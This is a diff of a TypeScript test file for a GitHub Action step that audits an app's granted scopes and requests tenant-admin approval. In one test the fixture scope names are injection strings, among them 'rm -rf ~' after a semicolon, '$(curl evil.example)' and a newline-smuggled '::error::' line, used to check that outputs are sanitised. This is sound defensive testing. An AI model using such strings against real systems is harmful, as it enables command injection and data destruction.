@@ -1,11 +1,11 @@
-// The gate audits: scopes the app holds beyond required-scopes, and an approval request the admin can act on.
-// `run` in-process with the real client and http-client against the sandbox; one run of the bundle at the end.
-import { run } from '../src/main.js'
-import { testDeps } from './support/deps.js'
-import { type FakeCore, fakeCore } from './support/fake-core.js'
-import { findLeaks, leaks } from './support/leaks.js'
-import { runAction } from '../harness/run-action.js'
-import { type Fault, type Sandbox, type SandboxApp, TEST_APP, faults, startSandbox } from '../harness/sandbox.js'
+// The gate step (src/steps/gate.ts): the scope outputs, the audit of scopes the app holds beyond required-scopes, and
+// an approval request the admin can act on. `run` in process with the real client and http-client against the
+// sandbox; test/action/audit.test.ts runs the bundle.
+import { run } from '../../src/main.js'
+import { testDeps } from '../support/deps.js'
+import { type FakeCore, fakeCore } from '../support/fake-core.js'
+import { leaks } from '../support/leaks.js'
+import { type Fault, type Sandbox, type SandboxApp, TEST_APP, faults, startSandbox } from '../../harness/sandbox.js'
 
 let sandbox: Sandbox
 beforeEach(async () => {
@@ -141,6 +141,34 @@ describe('request-approval', () => {
     expect(core.outputs['approval-requested']).toBe('false')
   })
 
+  it.each([
+    [
+      'rate limited',
+      faults.rateLimited(1),
+      /rate limited\. Too many requests for this app right now, and this request is sent once and never retried: run the workflow again later, or ask the tenant admin directly\./
+    ],
+    [
+      'stalled',
+      faults.hang(),
+      /did not answer within 1 s, the limit for one attempt .* This request is sent once and never retried: run the workflow again later, or raise 'attempt-timeout-seconds'\./
+    ]
+  ])('a request that was %s is not told to raise max-attempts: it is sent once', async (_what, fault, words) => {
+    sandbox.failNext(faults.pass(), faults.pass(), fault)
+    const core = await runWith({ 'required-scopes': 'bitable:app', 'request-approval': 'true', 'attempt-timeout-seconds': '1' })
+    expect(warnings(core)).toEqual([expect.stringMatching(words)])
+    expect(warnings(core)[0]).not.toContain('max-attempts')
+    expect(applyRequests()).toHaveLength(1)
+  })
+
+  it('explains the IP allowlist, as a warning that leaves the gate as it was', async () => {
+    sandbox.failNext(faults.pass(), faults.pass(), faults.json(400, { code: 99991401, msg: 'ip not allowed' }))
+    const core = await runWith({ 'required-scopes': 'bitable:app', 'request-approval': 'true' })
+    expect(warnings(core)).toEqual([
+      expect.stringMatching(/^Could not ask the tenant admin .*not on the app's IP allowlist.*code 99991401/)
+    ])
+    expect(core.failed).toMatch(/^1 of 1 required scopes is missing/)
+  })
+
   const cases: Array<[string, Partial<SandboxApp> | Fault, 'info' | 'warning', RegExp]> = [
     ['212004, a request already waits', { approvalPending: true }, 'info', /already waiting for the tenant admin.*code 212004/],
     [
@@ -189,26 +217,33 @@ describe('request-approval', () => {
   })
 })
 
-it('the built action audits and asks for approval, as the runner runs it', async () => {
-  const result = await runAction({
-    inputs: {
-      'app-id': TEST_APP.appId,
-      'app-secret': TEST_APP.appSecret,
-      'base-url': sandbox.url,
-      'required-scopes': 'im:message bitable:app',
-      'on-missing-scopes': 'warn',
-      'on-unexpected-scopes': 'warn',
-      'request-approval': 'true'
-    }
+describe('the scope outputs', () => {
+  const TOKEN = 't-f3a9c2e7b1d8465a0c9e'
+
+  it('hold only scope names: anything else the server lists is dropped, and a debug line says so', async () => {
+    const names = [
+      'im:message',
+      'im:message; rm -rf ~',
+      '$(curl evil.example)',
+      'a:b\n::error::x',
+      TEST_APP.appSecret,
+      `x:${TOKEN}`,
+      'IM:MESSAGE'
+    ]
+    sandbox.failNext(
+      faults.json(200, { code: 0, msg: 'ok', tenant_access_token: TOKEN, expire: 7200 }),
+      faults.json(200, { code: 0, data: { scopes: names.map(scope_name => ({ scope_name, grant_status: 1 })) } })
+    )
+    const core = await runWith({ 'required-scopes': 'im:message', 'max-attempts': '1' })
+    expect(core.failed).toBeUndefined()
+    expect(core.outputs['granted-scopes']).toBe('["im:message"]')
+    expect(core.events).toContainEqual({
+      type: 'debug',
+      message: expect.stringMatching(/^Left out 6 listed name\(s\) that are not scope names: /)
+    })
+    // Everything the run wrote where a secret must never be: logs, errors, debug lines, the summary, every output but the token.
+    const { token: _token, ...outputs } = core.outputs
+    expect(leaks({ printed: core.printed, outputs: JSON.stringify(outputs) }, [TEST_APP.appSecret, TOKEN])).toEqual([])
+    expect(core.printed).not.toMatch(/\n::/)
   })
-  expect(result.exitCode).toBe(0)
-  expect(result.outputs).toMatchObject({
-    'missing-scopes': '["bitable:app"]',
-    'unexpected-scopes': JSON.stringify([...RESOURCE_READ_SCOPES, 'im:message:send_as_bot'].sort()),
-    'approval-requested': 'true'
-  })
-  expect(result.warnings).toHaveLength(2)
-  expect(result.stdout).toContain("Asked the tenant admin to approve the app's pending scopes.")
-  expect(result.summary).toContain('### Unexpected scopes')
-  expect(findLeaks(result, [TEST_APP.appSecret, ...sandbox.issuedTokens()])).toEqual([])
 })
